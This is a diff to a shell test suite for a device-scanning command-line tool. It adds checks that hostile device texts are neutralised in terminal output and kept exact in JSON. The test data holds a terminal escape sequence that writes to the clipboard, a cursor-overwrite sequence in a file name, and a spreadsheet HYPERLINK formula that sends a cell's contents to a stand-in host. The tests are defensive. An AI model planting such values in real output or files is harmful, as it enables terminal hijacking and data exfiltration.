@@ -138,6 +138,24 @@ check "since: each device's change and changed fields, newest first, gone last" 
 check "since: a gone device keeps its last values" "cam-old 198.18.0.24" \
     "$(jq -r '.devices[] | select(.change == "gone") | "\(.name) \(.ip)"' since.out)"
 
+# ---- Texts that attack where they are shown: no device text reaches the terminal as a control
+# character; JSON keeps it exact.
+start_sim "$scenarios/cli_hostile.scn"
+cli hostile scan --adapter ws0 --save hostile.json
+check "hostile texts: exit code" 0 $rc
+check "hostile: the table shows the name's controls as \\xHH" 1 \
+    "$(grep -cF '\x1B]52;c;aGFja2Vk\x07' hostile.out)"
+check "hostile: JSON keeps the texts exact" \
+    '"\u001b]52;c;aGFja2Vk\u0007" "=HYPERLINK(\"http://x/?\"&B2,\"Firmware update required\")"' \
+    "$(jq -c '.devices[0] | .name, .description' hostile.json | tr '\n' ' ' | sed 's/ $//')"
+cli hostile_set set 02-00-5e-50-00-01 --adapter ws0 --ip 198.18.0.61 --verify-timeout 20
+check "hostile: set accepted and verified" 0 $rc
+check "hostile: set shows the name's and image file name's controls as \\xHH" "1 2" \
+    "$(grep -cF '(\x1B]52;c;aGFja2Vk\x07)' hostile_set.out) $(grep -cF \
+        'image: \x1B[1A\x1B[2Kfw.bin' hostile_set.out)"
+check "hostile: no escape or bell byte in the table, set or messages" 0 \
+    "$(cat hostile.out hostile.err hostile_set.out hostile_set.err | tr -cd '\033\007' | wc -c)"
+
 # ---- A fleet of 5000 answering at once: all listed (the time is the benchmark's business).
 start_sim "$scenarios/cli_fleet_5000.scn"
 started=$(date +%s%N)
